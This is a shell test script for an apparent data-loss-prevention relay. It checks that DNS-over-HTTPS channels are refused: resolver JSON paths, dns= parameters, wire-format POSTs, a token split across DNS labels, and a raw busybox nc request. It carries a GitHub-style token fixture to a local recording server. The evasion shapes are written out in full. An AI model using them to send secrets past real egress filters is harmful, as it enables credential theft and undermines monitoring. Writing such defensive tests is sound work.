#!/bin/sh
# 392-relay-doh-shapes: DNS over HTTPS that 386 did not see (branch
# redteam-egress4). 386 refuses the /dns-query path and the DoH media
# types; a resolver's JSON API answers a plain GET on other paths too
# (Google's and AdGuard's /resolve?name=, name=&type= anywhere, a dns=
# parameter holding a DNS message on any path, a POST of the older draft's
# application/dns-udpwireformat), and the query name cut
# into labels carries a token no detector matches whole. Before the fix
# each of these reached the recording server (seen with doh_query()
# disabled); now each is refused with a "dns over https" event. An
# ordinary query string with name=, type= and dns= parameters that are no
# DNS question still arrives.
. "$(dirname "$0")/lib.sh"
need_relay

TOKEN=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
A=ghp_cUpdx98diMhn0dH
C="$top_srcdir/t/e2e/doh_client.py"
start_server recsrv.py 127.0.0.1 rec
PORT=$rec_PORT LOG=$rec_LOG

: > "$LOG"
timeout 20 python3 "$C" resolve "$PORT" "$TOKEN" > /dev/null 2>&1
sleep 0.2
check "bare: the /resolve query reaches the server (the channel is real)" grep -q "$A" "$LOG"

for m in resolve name-type pad-name-type dns-param udpwire; do
	: > "$LOG"
	: > "$T/events.jsonl"
	out=$(timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 \
	      --log "$T/events.jsonl" -q -- python3 "$C" "$m" "$PORT" "$TOKEN" 2>&1)
	sleep 0.2
	check "$m: nothing reaches the server ($out)" sh -c "! grep -q 'HTTP/1.1' '$LOG' && ! grep -q '$A' '$LOG'"
	check "$m: evented as DNS over HTTPS, blocked" event_has '"action":"blocked"' \
		'"rule":"dns over https' "\"port\":$PORT"
	check "$m: the event carries no half of the token" sh -c "! grep -q '$A' '$T/events.jsonl'"
done
# static busybox nc: no shim, the relay alone judges the bytes
: > "$LOG"
: > "$T/events.jsonl"
python3 - "$TOKEN" > "$T/req" <<'PY'
import sys
t = sys.argv[1]; h = len(t) // 2
sys.stdout.write("GET /resolve?name=%s.%s.x.test&type=TXT HTTP/1.1\r\nHost: a\r\n\r\n" % (t[:h], t[h:]))
PY
timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 --log "$T/events.jsonl" -q -- \
	sh -c "(cat '$T/req'; sleep 1) | busybox nc 127.0.0.1 $PORT" > /dev/null 2>&1
sleep 0.2
check "busybox nc (unshimmed): refused by the relay" sh -c "! grep -q 'resolve' '$LOG'"
check "busybox nc: evented" event_has '"rule":"dns over https' 'unshimmed|relay'

: > "$LOG"
out=$(timeout 20 "$DLPJAIL" --no-default-policy --relay --allow 127.0.0.1 -q -- \
      python3 "$C" clean-name "$PORT" "$TOKEN" 2>&1)
sleep 0.2
check "clean-name: ?name=alice.smith&type=user&dns=hello arrives ($out)" grep -q 'alice.smith' "$LOG"
finish
